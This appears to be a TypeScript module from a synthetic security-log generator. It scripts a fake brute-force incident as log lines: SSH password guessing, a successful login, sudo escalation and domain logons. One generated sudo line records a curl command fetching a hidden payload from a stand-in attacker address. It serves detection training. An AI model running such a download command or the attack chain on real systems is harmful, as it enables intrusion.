import { milliseconds } from '../day.ts'
import type { LineMaker } from '../line.ts'
import { Random } from '../random.ts'
import { secureLine, secureSource } from '../sourcetypes/linux-secure.ts'
import { logonEvent, windowsSource } from '../sourcetypes/windows-security.ts'
import people from '../vocabulary/people.json' with { type: 'json' }
import { clock, type Incident } from './incident.ts'

const attacker = '203.0.113.9'
const target = 'www1'
const targetAddress = '10.1.1.11'
const guesses = 480
const domainGuesses = 12

const onTarget = (program: string, message: (random: Random) => string): LineMaker => ({
  index: 'security',
  sourcetype: 'linux_secure',
  make: (time, seed) => ({
    host: target,
    source: secureSource,
    raw: secureLine(time, target, program, message(new Random(seed)))
  })
})

const guess = onTarget('sshd[20417]', (random) => {
  const known = random.chance(0.25)
  const user = known ? 'svc_deploy' : `invalid user ${random.pick(people.guessed)}`
  return `Failed password for ${user} from ${attacker} port ${random.int(1024, 60_999)} ssh2`
})
const success = onTarget(
  'sshd[21533]',
  () => `Accepted password for svc_deploy from ${attacker} port 51844 ssh2`
)
const session = onTarget(
  'sshd[21533]',
  () => 'pam_unix(sshd:session): session opened for user svc_deploy by (uid=0)'
)
const escalation = onTarget(
  'sudo',
  () =>
    'svc_deploy : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/.x http://203.0.113.9/x'
)

const domainLogon = (success: boolean): LineMaker => ({
  index: 'security',
  sourcetype: 'WinEventLog:Security',
  make: (time, seed) => ({
    host: 'dc01',
    source: windowsSource,
    raw: logonEvent(time, {
      success,
      user: 'svc_backup',
      type: 3,
      address: targetAddress,
      workstation: target.toUpperCase(),
      computer: 'dc01',
      record: 7_100_000 + seed
    })
  })
})
const domainGuess = domainLogon(false)
const domainSuccess = domainLogon(true)

/**
 * 480 wrong passwords over ssh from 203.0.113.9 against www1 within 40 minutes, then the right one
 * for svc_deploy, root by sudo, and from there (10.1.1.11) 12 refused logons and a good one as
 * svc_backup on dc01.
 */
export const bruteForce: Incident = {
  daysAgo: 2,
  plan(midnight, emit) {
    const start = midnight + clock(2, 10)
    const random = new Random(0xb47e)
    for (let count = 0; count < guesses; count += 1) {
      emit(guess, milliseconds(start + count * 5 + random.next() * 4), random.seed())
    }
    emit(success, start + 2403.21, 0)
    emit(session, start + 2403.25, 0)
    emit(escalation, start + 2471.5, 0)
    for (let count = 0; count < domainGuesses; count += 1) {
      emit(domainGuess, start + 3300 + count * 7, count)
    }
    emit(domainSuccess, start + 3300 + domainGuesses * 7, domainGuesses)
  }
}
